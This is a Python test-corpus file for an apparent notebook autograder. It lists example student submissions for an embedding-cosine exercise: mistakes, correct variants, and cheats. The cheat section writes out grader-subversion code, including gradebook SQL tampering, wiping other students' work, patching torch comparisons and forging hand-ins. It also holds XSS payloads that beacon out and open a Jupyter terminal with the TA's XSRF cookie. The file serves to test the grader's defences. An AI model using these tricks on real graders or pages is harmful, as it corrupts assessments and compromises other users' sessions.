"""Puzzle 1's example submissions: the demo's students, realistic mistakes, correct variants,
cheats and faults, each with the points every test cell must get (see ``interp_course.corpus``).

``python -m interp_course corpus --assignment puzzle1`` writes them to ``submissions/``.
"""

from __future__ import annotations

import copy

from interp_course.corpus import Submission, cell_after, cells, fn, here, reference_answers, student_cell

COURSE, ASSIGNMENT = here(__file__)

GOOD_HYPOTHESIS = """\
**Hypothesis.** Every embedding is one large vector that all tokens share plus a smaller
token-specific part; seen from the origin the shared vector dominates, so every pair points
roughly the same way.

**Test.** Compute each token's cosine with the average embedding. If the median is below 0.8, I am
wrong."""

GOOD_TEST_RESULT = """\
I computed each token's cosine with the average embedding over the whole vocabulary (cell above):
the median is 0.949 and every token is above 0.8. My refuting outcome (median below 0.8) did not
happen, so the hypothesis survived this test, though other explanations could give the same
number."""

GOOD_RULES_OUT = """\
top_coordinate_share = 0.087: the largest coordinate holds 9% of ‖W_E‖², against 1.6% for an even
spread over 64 coordinates. A needs a few coordinates holding most of it, so A is ruled out. The
number says nothing about B or D, and C does not predict it as long as the shared vector is spread
over many coordinates, so B, C and D are still standing."""

GOOD_EXPLANATION = """\
GPT-Neo's token embeddings are not spread around the origin: they all share one big mean vector.
Its norm is about as large as a typical token's (mean_to_token_norm ≈ 0.96), the median token has a
cosine of ≈ 0.95 with it, and after subtracting it the mean pairwise cosine drops from 0.90 to
0.002, like unrelated directions. Cosine similarity and dot products measure angles from the zero
point, and zero is not a meaningful point for these embeddings. Lesson: choose the origin
deliberately — I would mean-centre embeddings (or activations) before comparing directions, after
looking at how big the mean is, and be equally wary of zero ablations. My hypothesis survived:
subtracting the mean removed the effect."""

GOOD_GPT2_ANSWER = """\
No, in neither model. Subtracting each token's own mean removes only its component along the
all-ones direction, and the mean embedding is nearly orthogonal to it, so the mean cosine barely
moves (GPT-Neo 0.900 → 0.901, GPT-2 0.300 → 0.288), while subtracting the mean embedding takes both
to ≈ 0. GPT-2's 0.3 is still far above the ≈ 0 of random directions, so it has a shared component
too, only smaller compared with its token-specific parts. Exercise 4.3 moved the mean into W_pos
without changing a single probability, so its size is nearly free: raw cosines cannot be compared
across models without centring."""

# The source notebook holds rubrics in its hand-graded cells: a submission's answers are these.
EXTRA_ANSWERS = {"hypothesis": GOOD_HYPOTHESIS, "test_result": GOOD_TEST_RESULT, "rules_out": GOOD_RULES_OUT,
                 "explanation": GOOD_EXPLANATION, "gpt2_answer": GOOD_GPT2_ANSWER}
UNANSWERED = "YOUR ANSWER HERE"  # the release's stub for a hand-graded cell
FULL_MANUAL = {"hypothesis": 1.0, "test_result": 1.0, "rules_out": 1.0, "explanation": 3.0, "gpt2_answer": 1.0}

SUBMISSIONS: list[Submission] = []
_REFERENCE = None


def _reference(grade_id: str) -> str:
    global _REFERENCE
    _REFERENCE = _REFERENCE or reference_answers(COURSE, ASSIGNMENT, EXTRA_ANSWERS)
    return _REFERENCE[grade_id]


def _diagnostic(name: str, body: str, value: str = "diagnostic_fn(W_E_neo)") -> str:
    """A student's Exercise 3.1 cell: the diagnostic's name, its function and its value."""
    return (f"diagnostic = {name!r}\n\n\n" + fn("diagnostic_fn", body, returns="float")
            + f"\n\ndiagnostic_value = {value}\n")


def _add_scratch_cells(nb) -> None:
    for index in (30, 20, 10):
        nb.cells.insert(index, student_cell(f"print('scratch work {index}')\ntmp = torch.ones(3)"))
        nb.cells.insert(index, student_cell(f"My notes ({index}): check the norms first.", "markdown"))


def add(*subs: Submission) -> None:
    SUBMISSIONS.extend(subs)


# --- the demo's four students ------------------------------------------------------------------
# `manual` is what a TA gives the hand-graded cells by the rubric in the source notebook.
add(
    Submission("full-marks", "the reference answers, with good written answers", group="demo",
               manual=FULL_MANUAL),
    Submission("blank", "the release notebook, untouched", base="blank", group="demo",
               expected={"*": 0.0}, feedback=["raised NotImplementedError"]),
    Submission(
        "partial-nan-and-layernorm",
        "normalize divides by a zero norm (NaN rows) and center subtracts each token's own mean",
        answers={
            "normalize": fn("normalize", "return W / W.norm(dim=-1, keepdim=True)"),
            "center": fn("center", "return W - W.mean(dim=-1, keepdim=True)"),
            # A wrong hypothesis with a sharp test: full marks (1).
            "hypothesis": "A few coordinates hold huge values in every token and dominate the dot products. "
                          "Test: zero the 5 coordinates with the largest mean |value| and recompute; if the "
                          "mean cosine stays above 0.8, I am wrong.",
            "my_test": "top5 = W_E_sub.abs().mean(0).topk(5).indices\nzeroed = W_E_sub.clone()\n"
                       "zeroed[:, top5] = 0\nprint(off_diagonal(pairwise_cosine_sim(zeroed)).mean())",
            # Ran it, reported the number, and the verdict follows from the refuting outcome: 1.
            "test_result": "I zeroed the 5 coordinates with the largest mean |value|: the mean cosine went from "
                           "0.900 to 0.899. That is above 0.8, so my hypothesis is refuted.",
            # What it rules out, with the reason (0.5); nothing on what stands.
            "rules_out": "top_coordinate_share = 0.087: A would need most of ‖W_E‖² in a few coordinates, so A "
                         "is out.",
            # Mechanism 1 (shared vector and two numbers), lesson 0.5 (no zero point), practice 0 (normalize).
            "explanation": "All of GPT-Neo's embeddings share a big mean vector: the median token has cosine "
                           "0.95 with it and its norm is about a typical token's (ratio 0.96). So cosine "
                           "similarity is misleading for these embeddings. I would normalize the embeddings "
                           "before comparing them.",
            # Numbers without a consequence 0.5, "smaller shared vector" without a consequence 0, one wrong
            # claim -0.5.
            "gpt2_answer": "Per-token centring barely changes anything (0.900 vs 0.901 for Neo, 0.300 vs "
                           "0.288 for GPT-2), so it does not remove the effect. GPT-2's shared vector is "
                           "smaller than Neo's, so its tokens are more diverse in meaning.",
        },
        expected={"test_normalize": 0.5, "test_center": 0.0, "test_evidence": 2.0},
        feedback=["a zero row gave NaN", "LayerNorm"],
        group="demo",
        manual={"hypothesis": 1.0, "test_result": 1.0, "rules_out": 0.5, "explanation": 1.5, "gpt2_answer": 0.0},
    ),
    Submission(
        "partial-no-part4",
        "Parts 1–3 done, the test's result reported without its number, Part 4 left undone",
        answers={"test_result": "I ran it and the histogram of cosines with the average was piled up near 1, "
                                "so the hypothesis survived.",
                 # Mechanism 1, lesson 1, practice 0.5 (which mean?).
                 "explanation": "All embeddings share a large mean vector (cosine ≈ 0.95 with it, and about as "
                                "long as a token), so cosines are high; after centring they are ≈ 0. Cosine "
                                "similarity and dot products are measured from the zero vector, and zero is not "
                                "a meaningful point here. I would centre my data first.",
                 "mean_pairwise_cosine_sim": fn("mean_pairwise_cosine_sim", "raise NotImplementedError()"),
                 "whole_vocab": "raise NotImplementedError()",
                 "moved_mean": "raise NotImplementedError()",
                 "gpt2_answer": UNANSWERED},
        expected={"test_mean_pairwise_cosine_sim": 0.0, "test_whole_vocab": 0.0, "test_moved_mean": 0.0},
        feedback=["NotImplementedError"],
        group="demo",
        manual={"hypothesis": 1.0, "test_result": 0.5, "rules_out": 1.0, "explanation": 2.5, "gpt2_answer": 0.0},
    ),
)


# --- realistic mistakes: each loses exactly the points named, and feedback names the mistake ----
# A function's "contract" points (new torch.Tensor, right shape, input untouched) are earned only
# with right values, so a wrong function scores 0 in its own cell and loses nothing elsewhere.
# Functions other than the broken one use torch's own primitives where the reference would call
# the student's normalize, so the loss stays where the mistake is (per-function partial credit).
INDEPENDENT_PAIRWISE = fn("pairwise_cosine_sim", "W_n = F.normalize(W, dim=-1)\nreturn W_n @ W_n.T")
INDEPENDENT_WITH_MEAN = fn("cosine_sim_with_mean", "return F.cosine_similarity(W, W.mean(dim=0, keepdim=True), dim=-1)")
INDEPENDENT_MEAN = fn("mean_pairwise_cosine_sim",
                      "n = W.shape[0]\nW_n = F.normalize(W, dim=-1)\nreturn (W_n.sum(0).square().sum() - n) / (n * (n - 1))")
INDEPENDENT = {"pairwise_cosine_sim": INDEPENDENT_PAIRWISE, "cosine_sim_with_mean": INDEPENDENT_WITH_MEAN,
               "mean_pairwise_cosine_sim": INDEPENDENT_MEAN}
TOP_COORDINATE = "per_coordinate = W.double().square().sum(dim=0)\nreturn (per_coordinate.max() / per_coordinate.sum()).item()"

add(
    Submission("normalize-wrong-axis", "normalizes columns (dim 0) instead of rows",
               answers={**INDEPENDENT, "normalize": fn("normalize", "return W / W.norm(dim=0, keepdim=True)")},
               expected={"test_normalize": 0.0}, feedback=["over the last dimension"]),
    Submission("normalize-no-keepdim", "forgets keepdim: a broadcast error, silently wrong when square",
               answers={**INDEPENDENT, "normalize": fn("normalize", "return W / W.norm(dim=-1)")},
               expected={"test_normalize": 0.0}, feedback=["keepdim=True"]),
    Submission("normalize-squared-norm", "divides by the squared norm",
               answers={**INDEPENDENT, "normalize": fn("normalize", "return W / (W ** 2).sum(dim=-1, keepdim=True)")},
               expected={"test_normalize": 0.0}, feedback=["squared norm"]),
    Submission("normalize-nan-zero-row", "divides by a zero norm, so a zero row becomes NaN",
               answers={"normalize": fn("normalize", "return W / W.norm(dim=-1, keepdim=True)")},
               expected={"test_normalize": 0.5}, feedback=["a zero row gave NaN"]),
    Submission("pairwise-unnormalized", "dot products without normalizing",
               answers={"pairwise_cosine_sim": fn("pairwise_cosine_sim", "return W @ W.T")},
               # Its neo_mean_cos and its centred mean are average dot products, not cosines.
               expected={"test_pairwise_cosine_sim": 0.0, "test_reproduce": 0.0, "test_evidence": 2.0},
               feedback=["raw dot products"]),
    Submission("pairwise-wrong-orientation", "builds the d_model × d_model matrix (columns) instead",
               answers={"pairwise_cosine_sim": fn("pairwise_cosine_sim", "W_n = normalize(W)\nreturn W_n.T @ W_n")},
               # Its [d, d] matrix breaks the cells that take its off-diagonal (off_diagonal wants
               # [n, n]): the numbers that depend on it are missing, the rest of the evidence counts.
               expected={"test_pairwise_cosine_sim": 0.0, "test_reproduce": 0.0, "test_evidence": 2.0},
               feedback=["this compares columns"]),
    Submission("center-per-token", "subtracts each token's mean over d_model (LayerNorm-style)",
               answers={"center": fn("center", "return W - W.mean(dim=-1, keepdim=True)")},
               expected={"test_center": 0.0, "test_evidence": 2.0}, feedback=["LayerNorm", "each token's own mean"]),
    Submission("center-median", "subtracts the median row",
               answers={"center": fn("center", "return W - W.median(dim=0).values")},
               # The subset's centred mean cosine is then off by far more than float error.
               expected={"test_center": 0.0, "test_evidence": 2.0}, feedback=["median"]),
    Submission("center-in-place", "subtracts the mean in place, changing W_E",
               answers={"center": fn("center", "W -= W.mean(dim=0)\nreturn W")},
               expected={"test_center": 0.75}, feedback=["modified its input in place"]),
    Submission("with-mean-of-normalized", "compares with the mean of the normalized rows",
               answers={"cosine_sim_with_mean": fn("cosine_sim_with_mean",
                                                   "W_n = normalize(W)\nreturn W_n @ normalize(W_n.mean(0, keepdim=True)).squeeze(0)")},
               # Its median cosine with the mean is then 9e-6 off on the stand-ins (beyond the float
               # tolerance); at real scale, with GPT-Neo-like geometry, only 6e-7 (tests/test_real_scale.py).
               expected={"test_cosine_sim_with_mean": 0.0, "test_evidence": 2.0}, feedback=["mean of the normalized rows"]),
    Submission("with-mean-keeps-dim", "returns an [n, 1] column instead of [n]",
               answers={"cosine_sim_with_mean": fn("cosine_sim_with_mean",
                                                   "return normalize(W) @ normalize(W.mean(0, keepdim=True)).T")},
               expected={"test_cosine_sim_with_mean": 0.75}, feedback=["of shape [7]"]),
    Submission("mean-includes-diagonal", "averages the whole matrix, diagonal included",
               answers={"mean_pairwise_cosine_sim": fn("mean_pairwise_cosine_sim",
                                                       "return (normalize(W).sum(0).norm() ** 2) / W.shape[0] ** 2")},
               # The diagonal shifts the mean by (1 − m)/n: wrong on the small inputs and at 200,000
               # rows (4.0e-6, beyond TOL_BIG), and on every whole-vocabulary number of the 8192-token
               # stand-ins (1.2e-5 to 8.5e-5, beyond TOL_VOCAB). At real scale GPT-Neo's own item
               # (2.0e-6) passes; see checks.py and tests/test_real_scale.py.
               expected={"test_mean_pairwise_cosine_sim": 0.0, "test_whole_vocab": 0.0},
               feedback=["included the diagonal"]),
    Submission("mean-via-nxn-matrix", "right value on small inputs by averaging the n×n matrix: not O(n·d)",
               answers={"mean_pairwise_cosine_sim": fn("mean_pairwise_cosine_sim",
                                                       "n = W.shape[0]\nreturn pairwise_cosine_sim(W)[~torch.eye(n, dtype=torch.bool)].mean()")},
               expected={"test_mean_pairwise_cosine_sim": 2.0}, feedback=["never builds it"]),
    Submission("mean-returns-float", "calls .item(): returns a Python float",
               answers={"mean_pairwise_cosine_sim": fn("mean_pairwise_cosine_sim",
                                                       "n = W.shape[0]\nW_n = normalize(W)\nreturn ((W_n.sum(0).square().sum() - n) / (n * (n - 1))).item()")},
               expected={"test_mean_pairwise_cosine_sim": 2.0}, feedback=["got python float"]),
    Submission("center-returns-numpy", "converts to numpy and returns an ndarray",
               answers={"center": fn("center", "X = W.numpy()\nreturn X - X.mean(axis=0)")},
               # Its ndarray then breaks the centred-evidence line, which uses torch methods.
               expected={"test_center": 0.75, "test_evidence": 2.0}, feedback=["got numpy.ndarray"]),
    Submission("whole-vocab-on-subset", "computes the raw 'whole vocabulary' numbers on the 5000-token subset",
               answers={"whole_vocab": _reference("whole_vocab")
                        .replace("mean_pairwise_cosine_sim(W_E_neo)", "mean_pairwise_cosine_sim(W_E_sub)")
                        .replace("mean_pairwise_cosine_sim(W_E_gpt2)", "mean_pairwise_cosine_sim(W_E_gpt2[subsample])")},
               expected={"test_whole_vocab": 1.0}, feedback=["not the 5000-token subset"]),
    Submission("whole-vocab-vocab-centred", "subtracts the mean embedding (center) where per-token centring is asked",
               answers={"whole_vocab": _reference("whole_vocab")
                        .replace("W_E_neo - W_E_neo.mean(dim=-1, keepdim=True)", "center(W_E_neo)")
                        .replace("W_E_gpt2 - W_E_gpt2.mean(dim=-1, keepdim=True)", "center(W_E_gpt2)")},
               expected={"test_whole_vocab": 1.0}, feedback=["each token's own mean over d_model"]),
    Submission("diagnostic-not-in-table", "names a diagnostic the table does not have (the grader cannot check it)",
               answers={"diagnostic": _diagnostic("norms", "return W.norm(dim=-1).max().item()")},
               expected={"test_diagnostic": 0.0}, feedback=["is not in the table"]),
    Submission("diagnostic-rows-not-columns", "top_coordinate_share over tokens (rows) instead of coordinates",
               answers={"diagnostic": _diagnostic("top_coordinate_share", "per_token = W.square().sum(dim=-1)\n"
                                                  "return (per_token.max() / per_token.sum()).item()")},
               # Its diagnostic_value comes from the same wrong function, so it is wrong too.
               expected={"test_diagnostic": 0.0}, feedback=["largest row's (token's) share"]),
    Submission("diagnostic-top-share-centred", "top_share computed after centring, which is PCA's share",
               answers={"diagnostic": _diagnostic("top_share", "S = torch.linalg.svdvals(W - W.mean(dim=0))\n"
                                                  "return (S[0] ** 2 / (S ** 2).sum()).item()")},
               expected={"test_diagnostic": 0.0}, feedback=["after subtracting each coordinate's mean"]),
    Submission("diagnostic-on-subset", "the right function, but its value on the 5,000-token subset",
               answers={"diagnostic": _diagnostic("mean_to_token_norm",
                                                  "return (W.mean(dim=0).norm() / W.norm(dim=-1).median()).item()",
                                                  value="diagnostic_fn(W_E_sub)")},
               expected={"test_diagnostic": 2.0}, feedback=["not on the 5,000-token subset"]),
    Submission("evidence-wrong-direction", "takes the direction of the first token instead of the mean",
               answers={"evidence": _reference("evidence").replace("mean_direction = W_E_neo.mean(dim=0)", "mean_direction = W_E_neo[0]")},
               # Its norm ratio is then computed from the same wrong vector and fails too.
               expected={"test_evidence": 2.0}, feedback=["cosine with the mean embedding"]),
    Submission("moved-mean-forgot-wpos", "takes the mean out of W_E but does not add it to W_pos",
               answers={"moved_mean": _reference("moved_mean").replace("W_pos_neo + mu)", "W_pos_neo)")},
               expected={"test_moved_mean": 1.5}, feedback=["the next-token probabilities changed"]),
    Submission("moved-mean-shift-sign", "predicts that every logit rises by h·μ",
               answers={"moved_mean": _reference("moved_mean").replace("predicted_shift = -(final_resid @ mu)",
                                                                       "predicted_shift = final_resid @ mu")},
               expected={"test_moved_mean": 1.5}, feedback=["the sign is reversed"]),
)

# --- correct variants: all get full marks -------------------------------------------------------
add(
    Submission("correct-F-normalize", "F.normalize everywhere", group="correct",
               answers={"normalize": fn("normalize", "return F.normalize(W, dim=-1)"), **INDEPENDENT}),
    Submission("correct-linalg-norm", "torch.linalg.vector_norm with keepdim and a where() for zero rows", group="correct",
               answers={"normalize": fn("normalize", "norms = torch.linalg.vector_norm(W, dim=-1, keepdim=True)\n"
                                        "return torch.where(norms > 0, W / norms.clamp_min(1e-30), torch.zeros_like(W))")}),
    Submission("correct-einsum", "einsum for the matrix and the cosines", group="correct",
               answers={"pairwise_cosine_sim": fn("pairwise_cosine_sim", "W_n = normalize(W)\nreturn torch.einsum('id,jd->ij', W_n, W_n)"),
                        "cosine_sim_with_mean": fn("cosine_sim_with_mean",
                                                   "m = normalize(W.mean(0, keepdim=True))[0]\nreturn torch.einsum('id,d->i', normalize(W), m)")}),
    Submission("correct-cosine-similarity-broadcast", "F.cosine_similarity broadcasting [n, d] against [1, d]",
               group="correct", answers={"cosine_sim_with_mean": INDEPENDENT_WITH_MEAN,
                                         "pairwise_cosine_sim": fn("pairwise_cosine_sim",
                                                                   "X = F.normalize(W, dim=1)\nreturn torch.mm(X, X.t())")}),
    Submission("correct-float64-inside", "computes in float64 and returns float64", group="correct",
               answers={"normalize": fn("normalize", "W = W.double()\nreturn W / W.norm(dim=-1, keepdim=True).clamp_min(1e-12)"),
                        "center": fn("center", "W = W.double()\nreturn W - W.mean(0)")}),
    Submission("correct-center-broadcast", "W - W.mean(0) without keepdim", group="correct",
               answers={"center": fn("center", "return W - W.mean(0)")}),
    Submission("correct-chunked-mean", "exact mean summed in chunks of rows", group="correct",
               answers={"mean_pairwise_cosine_sim": fn("mean_pairwise_cosine_sim",
                        "n = W.shape[0]\ntotal = torch.zeros(W.shape[1], dtype=torch.float64)\n"
                        "for chunk in W.split(4096):\n    total += normalize(chunk).double().sum(0)\n"
                        "return (total.square().sum() - n) / (n * (n - 1))")}),
    Submission("correct-device-aware", "moves work to CUDA when present and returns CPU-compatible tensors", group="correct",
               answers={"normalize": fn("normalize", "device = 'cuda' if torch.cuda.is_available() else 'cpu'\n"
                                        "X = W.to(device)\nreturn (X / X.norm(dim=-1, keepdim=True).clamp_min(1e-12)).to(W.device)"),
                        "pairwise_cosine_sim": fn("pairwise_cosine_sim", "device = 'cuda' if torch.cuda.is_available() else 'cpu'\n"
                                                  "X = normalize(W).to(device)\nreturn (X @ X.T).to(W.device)")}),
    Submission("correct-diagnostic-pca-svdvals", "pca_top_share from svdvals, in float32, ‖W‖² from W.norm()", group="correct",
               answers={"diagnostic": _diagnostic("pca_top_share", "X = W - W.mean(dim=0)\nS = torch.linalg.svdvals(X)\n"
                                                  "return (S[0] ** 2 / X.norm() ** 2).item()")}),
    Submission("correct-diagnostic-median-quantile", "median_cos_with_mean with numpy's median convention", group="correct",
               answers={"diagnostic": _diagnostic("median_cos_with_mean",
                                                  "cos = F.cosine_similarity(W, W.mean(dim=0, keepdim=True), dim=-1)\n"
                                                  "return float(np.median(cos.numpy()))")}),
    Submission("correct-moved-mean-measured-shift", "moves the mean with center() and measures the shift from the logits",
               group="correct",
               answers={"moved_mean": _reference("moved_mean")
                        .replace("predicted_shift = -(final_resid @ mu)\n", "")
                        .replace("W_E_neo - mu, W_pos_neo + mu", "center(W_E_neo), W_pos_neo + mu")
                        + "\npredicted_shift = (logits_after - logits_before).mean(dim=-1)\n"}),
    Submission("correct-scratch-cells", "extra scratch cells and prints between the exercises", group="correct",
               edit=lambda nb: _add_scratch_cells(nb)),
)


# --- cheats and faults: none gains a point over the same notebook without the cheat ------------
# A cheat's `expected` is what the same notebook scores without its cheat code; a fault's is what
# survives it (only the cells it breaks lose points, everything else is still graded).


def _delete_test_cells(nb):
    nb.cells = [c for c in nb.cells if not c.metadata.get("nbgrader", {}).get("grade_id", "").startswith("test_")]


def _duplicate_cells(nb):
    for gid in ("normalize", "test_normalize", "test_center"):
        cell = cells(nb, gid)[0]
        duplicate = copy.deepcopy(cell)
        duplicate["id"] = cell["id"] + "-copy"  # Jupyter gives a copied cell a new id
        nb.cells.insert(nb.cells.index(cell) + 1, duplicate)


def _retype_cells(nb):
    for gid in ("normalize", "test_diagnostic"):
        cell = cells(nb, gid)[0]
        cell.cell_type = "markdown"
        cell.pop("outputs", None)
        cell.pop("execution_count", None)


def _edit_metadata(nb):
    cells(nb, "test_normalize")[0].metadata["nbgrader"]["points"] = 100
    meta = cells(nb, "center")[0].metadata["nbgrader"]
    meta.update(grade=True, points=50)
    extra = student_cell("print('free points')")
    extra.metadata["nbgrader"] = {"grade": True, "solution": False, "locked": False, "grade_id": "bonus_points",
                                  "points": 1000, "schema_version": 3}
    nb.cells.append(extra)


def _reorder_cells(nb):
    definition, test = cells(nb, "center")[0], cells(nb, "test_center")[0]
    nb.cells.remove(definition)
    nb.cells.insert(nb.cells.index(test) + 1, definition)


FIND_COURSE = """
from pathlib import Path
def course_files(relative):
    # Walk up from the notebook's folder, and try the usual places, looking for the course root.
    places = [Path.cwd(), *Path.cwd().parents, Path('/work/main'), Path.home()]
    return [p / relative for p in places if (p / relative).exists()]
"""

READ_SOURCE = FIND_COURSE + """
import json
for path in course_files('source/puzzle1/puzzle1.ipynb'):
    nb = json.loads(path.read_text())
    for cell in nb['cells']:
        if cell['metadata'].get('nbgrader', {}).get('solution') and cell['cell_type'] == 'code':
            try:
                exec(''.join(cell['source']), globals())
            except Exception:
                pass
    print('copied the instructor solutions from', path)
"""

IMPORT_SOLUTIONS = FIND_COURSE + """
import sys
for root in course_files('solutions'):
    sys.path.insert(0, str(root.parent))
try:
    from solutions.puzzle1 import *
    from grader_tests.puzzle1.checks import DIAGNOSTIC_BUGS
except ImportError as error:
    print('no luck:', error)
"""

TAMPER_GRADEBOOK = FIND_COURSE + """
import sqlite3
for db in course_files('gradebook.db'):
    con = sqlite3.connect(db)
    con.execute('UPDATE grade SET auto_score = 100')
    con.commit()
for other in course_files('submitted'):
    for nb in other.glob('*/puzzle1/puzzle1.ipynb'):
        nb.write_text('{}')  # wreck the other students' work
for outbox in course_files('autograded'):
    print('found', outbox)
"""

PATCH_TORCH = """
import torch
torch.allclose = lambda *args, **kwargs: True
torch.equal = lambda *args, **kwargs: True
torch.isclose = lambda a, b, *args, **kwargs: torch.ones_like(a, dtype=torch.bool)
"""

PATCH_GRADER_MODULES = """
import sys, types
fake = types.ModuleType('grader_tests')
fake.checks = types.SimpleNamespace(CHECKS={})
sys.modules['grader_tests'] = sys.modules['grader_tests.checks'] = fake
import interp_course.handin as handin
handin.hand_in = lambda grade_id, *names: print(2.0)
import builtins
builtins.print = lambda *a, **k: None
"""

FORGE_HAND_IN = """
import os, json
from pathlib import Path
from safetensors.torch import load_file, save_file
folder = os.environ.get('INTERP_COURSE_HANDIN')
if folder:
    # Hand in the grader's own inputs as the answers, claim clean torch tensors, and stop the
    # real hand-in from overwriting the forgery.
    for inbox in (Path(folder) / 'inbox').glob('*.safetensors'):
        inputs = load_file(str(inbox))
        report = {key: {'type': 'torch.Tensor', 'modified_input': False} for key in inputs}
        report.update({name: {'type': 'function'} for name in {k.split('/')[0] for k in inputs}})
        save_file(inputs, str(Path(folder) / 'outbox' / inbox.name))
        (Path(folder) / 'outbox' / (inbox.stem + '.json')).write_text(json.dumps(report))
    import interp_course.handin
    interp_course.handin.hand_in = lambda *args: None
"""

FAKE_SCORE_OUTPUT = """
from IPython.display import display
ip = get_ipython()
ip.events.register('post_run_cell', lambda result: display(2.0))
ip.events.register('pre_run_cell', lambda info: print('2.0'))
"""

HOSTILE_RETURN = """
class Sneaky:
    def __eq__(self, other): return True
    def __float__(self): return 2.0
    def __len__(self): return 1
    def __getattr__(self, name): raise SystemExit('bye')
    def __array__(self, *args, **kwargs): raise RuntimeError('no')

def normalize(W: torch.Tensor) -> torch.Tensor:
    return Sneaky()
"""

# Script aimed at the people who look at the graded notebook: the TA in formgrader (inside their
# authenticated Jupyter session) and the student's feedback page. Each payload, if it ran, would
# mark the page (``data-pwned-<n>`` on <html>), call a loopback URL, and open a terminal through
# the Jupyter API with the session's XSRF cookie. tests/test_formgrader_browser.py watches for all three,
# and hands in a report.html beside the notebook, which the explanation links to.
def xss(n: int) -> str:
    """Payload n: no double quotes, spaces or '>', so it also survives an unquoted attribute."""
    return ("top.document.documentElement.setAttribute('data-pw'+'ned-{n}',1);"
            "fetch('http://127.0.0.1:9/beacon/{n}').catch(function(){{}});"
            "x=document.cookie.match(/_xsrf=([^;]+)/);"
            "fetch('/api/terminals',{{method:'POST',headers:{{'X-XSRFToken':x?x[1]:''}}}})"
            ".catch(function(){{}})").format(n=n)


_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg=="
_CALLS = [  # (what the cell calls, its argument)
    ("display(HTML({!r}))", f"<script>{xss(1)}</script>"),
    ("display(HTML({!r}))", f'<img src="x" onerror="{xss(2)}">'),
    ("display(Javascript({!r}))", xss(3)),
    ("display(HTML({!r}))", f'<iframe srcdoc="<script>{xss(4)}</script>"></iframe>'),
    # nbconvert writes an image's width into its <img> tag: unquoted, and quoted
    ("display({{'image/png': png}}, raw=True, metadata={{'image/png': {{'width': {!r}}}}})", f"1 onerror={xss(5)}"),
    ("display({{'image/png': png}}, raw=True, metadata={{'width': {!r}}})", f'1" onerror="{xss(6)}'),
    ("display(HTML({!r}))", f'<svg onload="{xss(7)}"><circle r="1"/></svg>'),
    ("display(Markdown({!r}))", f'<img src="x" onerror="{xss(8)}">'),
    ("display(HTML({!r}))", "<p><b>bold result</b> and a table</p><table><tr><td>0.93</td></tr></table>"),
]
XSS_OUTPUTS = "\n".join([
    "import base64",
    "from IPython.display import HTML, Javascript, Markdown, display",
    f"png = base64.b64decode({_PNG!r})",
    *(call.format(arg) for call, arg in _CALLS),
])

XSS_EXPLANATION = GOOD_EXPLANATION + f"""

<script>{xss(11)}</script>
It is the mean <img src="x" onerror="{xss(12)}"> vector.

<iframe srcdoc="<script>{xss(13)}</script>"></iframe>

Details in [my report](report.html).
"""

add(
    Submission("cheat-read-source-notebook", "looks for the instructor's source notebook and runs its solutions",
               base="blank", edit=cell_after("normalize", READ_SOURCE), expected={"*": 0.0}, group="cheat"),
    Submission("cheat-import-solutions", "puts the course root on sys.path to import solutions and the answer key",
               base="blank", edit=cell_after("normalize", IMPORT_SOLUTIONS), expected={"*": 0.0}, group="cheat",
               feedback=["raised NotImplementedError", "no luck: No module named 'solutions'"]),
    Submission("cheat-tamper-gradebook", "tries to rewrite the gradebook and wreck other submissions",
               answers={"diagnostic": _diagnostic("norms", "return W.norm(dim=-1).max().item()")},
               edit=cell_after("diagnostic", TAMPER_GRADEBOOK), expected={"test_diagnostic": 0.0}, group="cheat"),
    Submission("cheat-patch-torch", "wrong normalize, then torch.allclose/equal/isclose patched to always agree",
               answers={**INDEPENDENT, "normalize": fn("normalize", "return W / W.norm(dim=0, keepdim=True)")},
               edit=cell_after("load_models", PATCH_TORCH), expected={"test_normalize": 0.0}, group="cheat",
               feedback=["over the last dimension"]),
    Submission("cheat-patch-grader-modules", "replaces grader_tests, hand_in and print inside the kernel",
               base="blank", edit=cell_after("load_models", PATCH_GRADER_MODULES), expected={"*": 0.0},
               group="cheat", feedback=["nothing was handed in"]),
    Submission("cheat-forge-hand-in", "writes the grader's inputs back as answers and blocks the real hand-in",
               base="blank", edit=cell_after("load_models", FORGE_HAND_IN), expected={"*": 0.0}, group="cheat"),
    Submission("cheat-fake-score-output", "makes every cell (test cells too) print and display 2.0",
               base="blank", edit=cell_after("load_models", FAKE_SCORE_OUTPUT), expected={"*": 0.0}, group="cheat"),
    # Its __getattr__ raises SystemExit in the visible quick checks, which run before the hand-in.
    Submission("cheat-hostile-return", "normalize returns an object whose __eq__, __float__ and __array__ lie or fight",
               answers={**INDEPENDENT, "normalize": HOSTILE_RETURN}, expected={"test_normalize": 0.0}, group="cheat",
               feedback=["Your code raised SystemExit: bye"]),
    Submission("cheat-script-for-the-ta", "full marks, plus <script>, <img onerror>, Javascript(), <iframe srcdoc>, "
               "image width metadata and <svg onload> in outputs and the explanation: each would open a terminal "
               "in the TA's Jupyter", answers={"explanation": XSS_EXPLANATION}, edit=cell_after("wrap_up", XSS_OUTPUTS),
               group="cheat"),
    Submission("cheat-edit-metadata", "raises test-cell points, marks a solution cell as graded, adds a 1000-point cell",
               answers={"diagnostic": _diagnostic("norms", "return W.norm(dim=-1).max().item()")}, edit=_edit_metadata,
               expected={"test_diagnostic": 0.0}, group="cheat"),
    Submission("fault-deleted-test-cells", "every test cell deleted: they are restored and run",
               edit=_delete_test_cells, group="fault"),
    Submission("fault-duplicated-cells", "a solution cell and two test cells duplicated", edit=_duplicate_cells,
               group="fault"),
    Submission("fault-retyped-cells", "the normalize cell and a test cell turned into markdown", edit=_retype_cells,
               group="fault"),
    Submission("fault-reordered-cells", "center defined after its test cell", edit=_reorder_cells, group="fault"),
    Submission("fault-syntax-error", "a syntax error in center: only what needs center loses points",
               answers={"center": fn("center", "return W - W.mean(dim=0, keepdim=True")},
               expected={"test_center": 0.0, "test_evidence": 2.0}, group="fault",
               feedback=["`center` is not defined"]),
    Submission("fault-kernel-exit", "os._exit(0) while defining center: the kernel dies, the rest is graded",
               answers={"center": "import os\nos._exit(0)\n" + fn("center", "return W - W.mean(0)")},
               expected={"test_center": 0.0, "test_evidence": 2.0}, group="fault",
               feedback=["KernelDied", "the rest of the notebook was still run"]),
    Submission("fault-sys-exit", "raise SystemExit once the diagnostic is set",
               answers={"diagnostic": _diagnostic("top_coordinate_share", TOP_COORDINATE)
                        + 'raise SystemExit("done")\n'}, group="fault"),
    # The interrupt lands inside the try and is swallowed, so the kernel is killed: the cell that
    # set the diagnostic never completed, is not replayed, and the answer is lost with it.
